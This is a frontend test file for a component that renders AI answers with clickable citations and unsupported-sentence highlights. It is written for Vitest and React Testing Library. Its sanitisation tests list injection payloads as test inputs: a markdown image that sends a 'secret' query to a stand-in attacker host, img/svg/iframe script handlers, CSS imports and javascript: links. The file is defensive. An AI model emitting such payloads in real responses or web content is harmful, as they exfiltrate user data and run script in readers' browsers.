// @vitest-environment jsdom
import { cleanup, render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, describe, expect, it } from "vitest";
import type { Message } from "../api/types";
import { shell } from "../app/shell-state";
import { aCitation, anAnswer, aSource } from "../turns/fixtures";
import { AnswerText } from "./answer-text";

afterEach(cleanup);

const show = (change: Partial<Message>, growing = false) =>
  render(<AnswerText message={anAnswer(change)} growing={growing} />).container;

describe("AnswerText", () => {
  it("turns markers into buttons that open the passage", async () => {
    show({
      content: "Every 400 hours [4].",
      sources: [aSource({ index: 4 })],
      citations: [aCitation({ index: 4 })],
    });
    await userEvent.click(screen.getByRole("button", { name: "[1] Manual, page 3" }));
    const { panel } = shell();
    expect(panel?.kind === "passage" && panel.passage.quote).toEqual({ start: 23, end: 38 });
  });

  it("keeps what it showed while it grows", () => {
    const message = anAnswer({ content: "Late [1].", sources: [aSource()] });
    const { container, rerender } = render(<AnswerText message={message} growing />);
    const mark = container.querySelector("button[data-citation]");
    expect(mark).not.toBeNull();
    const settled = { ...message, content: "Late [1]. Very.", citations: [aCitation()] };
    rerender(<AnswerText message={settled} growing={false} />);
    expect(container.querySelector("button[data-citation]")).toBe(mark);
  });

  it("shows which citations were not confirmed, once the answer is complete", () => {
    const message = {
      content: "Late [1].",
      sources: [aSource()],
      citations: [aCitation({ verified: false })],
    };
    show(message, true);
    expect(screen.queryByRole("button", { name: /not confirmed/ })).toBeNull();
    cleanup();
    show(message);
    screen.getByRole("button", { name: /not confirmed/ });
  });

  it("points out sentences without a source, by code points", () => {
    const content = "😀 Known [1]. Surely **true** so.";
    const start = [...content].join("").indexOf("Surely") - 1;
    const container = show({
      content,
      sources: [aSource()],
      unsupported: [{ text_start: start, text_end: [...content].length }],
    });
    const marked = [...container.querySelectorAll(".unsupported")].map((element) => element.textContent);
    expect(marked.join("")).toBe("Surely true so.");
  });

  it("leaves markers alone in code and where nothing is known of them", () => {
    const container = show({ content: "`a[1]` and [7].", sources: [aSource()] });
    expect(container.textContent).toBe("a[1] and [7].");
  });

  it("does not let a text turn a marker into a link", () => {
    const container = show({ content: "See [1].\n\n[1]: https://evil.example", sources: [aSource()] });
    expect(container.querySelector("a[href*='evil'] button")).toBeNull();
    expect(screen.getAllByRole("button").length).toBeGreaterThan(0);
  });

  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    '<img src="https://evil.example/x" onerror="alert(1)">',
    "<svg onload=alert(1)></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import 'https://evil.example'</style>",
    '<link rel="stylesheet" href="https://evil.example">',
  ])("loads nothing for %s", (content) => {
    const container = show({ content });
    expect(container.querySelector("img,svg,iframe,style,link,script,object,embed,video,audio")).toBeNull();
  });

  it.each(["[x](javascript:alert(1))", "[x](data:text/html,hi)", "[x](vbscript:x)", "<javascript:alert(1)>"])(
    "makes no link of %s",
    (content) => {
      const hrefs = [...show({ content }).querySelectorAll("a")].map(
        (link) => link.getAttribute("href") ?? "",
      );
      expect(hrefs.filter((href) => href !== "" && !/^(?:https?|mailto):/.test(href))).toEqual([]);
    },
  );

  it("shows tables and code", () => {
    const container = show({ content: "| a | b |\n| - | - |\n| 1 | 2 |\n\n```\nx\n```" });
    expect(container.querySelector("table td")?.textContent).toBe("1");
    expect(container.querySelector("pre code")?.textContent).toBe("x\n");
  });
});
